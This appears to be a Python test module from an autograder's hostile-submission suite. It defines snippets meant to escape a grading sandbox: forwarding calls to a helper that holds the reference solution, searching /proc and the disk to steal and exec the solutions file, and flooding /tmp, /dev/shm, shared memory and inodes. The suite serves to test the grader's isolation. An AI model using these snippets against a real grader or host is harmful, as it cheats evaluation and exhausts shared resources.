"""Attacks on what surrounds the child: the network, the grader's files, shared memory and the disk.

Each one gains points, or hurts the judge, only if the child escapes its
isolation; its honest twin is the same imperfect solution without the attack.
"""

from __future__ import annotations

import atexit
import dataclasses
import json
import os
import select
import shutil
import socket
import tempfile
import threading
import time
from dataclasses import dataclass
from typing import Any

import numpy as np

from tests.hostile.catalogue import Attack

HELPER_SECONDS = 600.0
HELPER_CONNECTIONS = 2000
"""The answering helper stops after this long or this many connections, whichever comes first."""

FORWARD = '''
import json as _json, socket as _socket
_own_sign, _own_softmax = sign, softmax

def _ask(name, x):
    """The reference's answer from a helper outside the sandbox, if any door is open."""
    doors = [(_socket.AF_INET, ("127.0.0.1", {port})), (_socket.AF_UNIX, {path!r}), (_socket.AF_UNIX, {abstract!r})]
    for family, address in doors:
        try:
            with _socket.socket(family, _socket.SOCK_STREAM) as door:
                door.settimeout(2)
                door.connect(address)
                door.sendall(_json.dumps({{"name": name, "x": np.asarray(x).tolist()}}).encode() + b"\\n")
                return np.asarray(_json.loads(door.makefile().readline()), dtype=float)
        except (OSError, ValueError):
            pass
    return None

def sign(x):
    answer = _ask("sign", x)
    return _own_sign(x) if answer is None else answer

def softmax(x):
    answer = _ask("softmax", x)
    return _own_softmax(x) if answer is None else answer
'''


@dataclass(frozen=True)
class Helper:
    """Where the helper listens: TCP on 127.0.0.1 only, a socket file anyone may connect to, an abstract socket."""

    port: int
    path: str
    abstract: str


_helper: Helper | None = None


def helper(reference: str) -> Helper:
    """Start, once per test process, a helper that answers with the reference solution's functions."""
    global _helper
    if _helper is None:
        namespace: dict[str, Any] = {}
        exec(compile(reference, "reference", "exec"), namespace)
        folder = tempfile.mkdtemp(prefix="devoir3-helper-", dir="/run" if os.access("/run", os.W_OK) else None)
        os.chmod(folder, 0o755)
        atexit.register(shutil.rmtree, folder, ignore_errors=True)
        tcp = socket.create_server(("127.0.0.1", 0))
        unix = socket.socket(socket.AF_UNIX)
        unix.bind(os.path.join(folder, "helper.sock"))
        os.chmod(os.path.join(folder, "helper.sock"), 0o777)
        abstract = socket.socket(socket.AF_UNIX)
        abstract.bind(f"\0devoir3-helper-{os.getpid()}")
        for listener in (unix, abstract):
            listener.listen()
        threading.Thread(target=serve, args=([tcp, unix, abstract], namespace), daemon=True).start()
        _helper = Helper(tcp.getsockname()[1], unix.getsockname(), abstract.getsockname().decode())
    return _helper


def serve(listeners: list[socket.socket], namespace: dict[str, Any]) -> None:
    """Answer one call per connection, within the helper's bounds."""
    deadline = time.monotonic() + HELPER_SECONDS
    try:
        for _ in range(HELPER_CONNECTIONS):
            left = deadline - time.monotonic()
            ready = select.select(listeners, [], [], max(left, 0))[0] if left > 0 else []
            if not ready:
                return
            connection, _ = ready[0].accept()
            with connection:
                connection.settimeout(5)
                try:
                    call = json.loads(connection.makefile().readline())
                    result = namespace[call["name"]](np.asarray(call["x"], dtype=float))
                    connection.sendall(json.dumps(np.asarray(result).tolist()).encode() + b"\n")
                except (OSError, ValueError, KeyError):
                    continue
    finally:
        for listener in listeners:
            listener.close()


@dataclass(frozen=True)
class Forwarding(Attack):
    """The attack's snippet names where the helper listens, known only once the helper runs."""

    def sources(self, reference: str) -> tuple[bytes, bytes]:
        where = helper(reference)
        snippet = FORWARD.format(port=where.port, path=where.path, abstract=where.abstract)
        return Attack.sources(dataclasses.replace(self, attack=snippet), reference)


READ_THE_REFERENCE = '''
import glob as _glob, os as _os

def _roots():
    roots = {"/autograder", "/work", "/tmp", "/srv", "/home", "/root", _os.getcwd(), _os.path.dirname(_os.getcwd())}
    for cmdline in _glob.glob("/proc/[0-9]*/cmdline"):
        try:
            words = open(cmdline, "rb").read().decode(errors="ignore").replace("'", "\\0").split("\\0")
        except OSError:
            continue
        for word in words:
            if word.startswith("/"):
                roots.update({word, _os.path.dirname(word), _os.path.dirname(_os.path.dirname(word))})
    return roots

for _root in sorted(_roots()):
    for _path in _glob.glob(_os.path.join(_root, "**", "solutions", "devoir3.py"), recursive=True)[:3]:
        try:
            exec(compile(open(_path).read(), "stolen", "exec"))  # the reference's functions replace ours
        except Exception:
            pass
'''

FILES_EVERYWHERE = '''
import os as _os
for _folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/crash", _os.getcwd()):
    try:
        _os.makedirs(_os.path.join(_folder, "devoir3-reste"), exist_ok=True)
    except OSError:
        pass
    for _i in range(400):
        try:
            with open(_os.path.join(_folder, f"devoir3-reste-{_i}"), "w") as _f:
                _f.write("x" * 1000)
        except OSError:
            break
'''

SHARED_MEMORY = '''
import os as _os
_chunk = b"\\0" * (16 * 1024 * 1024)
_kept = []

def _fill(opener, count):
    """Write 16 MB per file until refused: the pages belong to no process's memory."""
    for _i in range(count):
        try:
            handle = opener(_i)
            _os.write(handle, _chunk)
            _kept.append(handle)
        except OSError:
            return

if hasattr(_os, "memfd_create"):
    _fill(lambda i: _os.memfd_create(f"m{i}"), 40)
for _folder in ("/dev/shm", "/tmp", "/var/tmp"):
    _fill(lambda i: _os.open(f"{_folder}/s{i}", _os.O_CREAT | _os.O_WRONLY, 0o600), 40)
    for _handle in _kept:
        _os.close(_handle)
    _kept.clear()
try:
    import ctypes as _ctypes
    _libc = _ctypes.CDLL(None)
    _libc.shmat.restype = _ctypes.c_void_p
    for _i in range(40):  # System V segments outlive their process unless removed
        _id = _libc.shmget(0, 16 * 1024 * 1024, 0o1600)
        if _id < 0:
            break
        _address = _libc.shmat(_id, None, 0)
        if _address in (None, _ctypes.c_void_p(-1).value):
            break
        _ctypes.memset(_address, 1, 16 * 1024 * 1024)
except OSError:
    pass
'''

DEEP_FOLDER_CHAIN = '''
import os as _os
for _place in (_os.getcwd(), "/tmp", "/dev/shm", "/var/tmp"):
    try:
        _os.chdir(_place)
        for _i in range(5000):
            _os.mkdir("d")
            _os.chdir("d")
    except OSError:
        pass
_os.chdir(_os.environ.get("HOME", "/"))
'''

MILLION_EMPTY_FILES = '''
import os as _os
_refused = 0
for _i in range(10**6):
    try:
        _os.close(_os.open(f"/tmp/vide-{_i}", _os.O_CREAT | _os.O_WRONLY, 0o600))
    except OSError:
        _refused += 1
        if _refused > 1000:
            break
'''

CATALOGUE = [
    Forwarding("network_forwarding", ""),
    Attack("deep_folder_chain", DEEP_FOLDER_CHAIN),  # issue 20: the cleanup's walk is bounded, and no folder is made
    Attack("million_empty_files", MILLION_EMPTY_FILES),  # issue 20: a quota of zero inodes
    Attack("read_the_reference", READ_THE_REFERENCE, root_only=True),
    Attack("files_left_everywhere", FILES_EVERYWHERE, root_only=True),
    Attack("shared_memory_bomb", SHARED_MEMORY, root_only=True),
]
